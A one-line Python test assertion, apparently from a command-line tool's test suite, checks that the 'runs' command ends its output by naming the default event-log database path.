    assert invoke("runs").output.splitlines()[-1] == f"Event log: {paths.default_database()}"
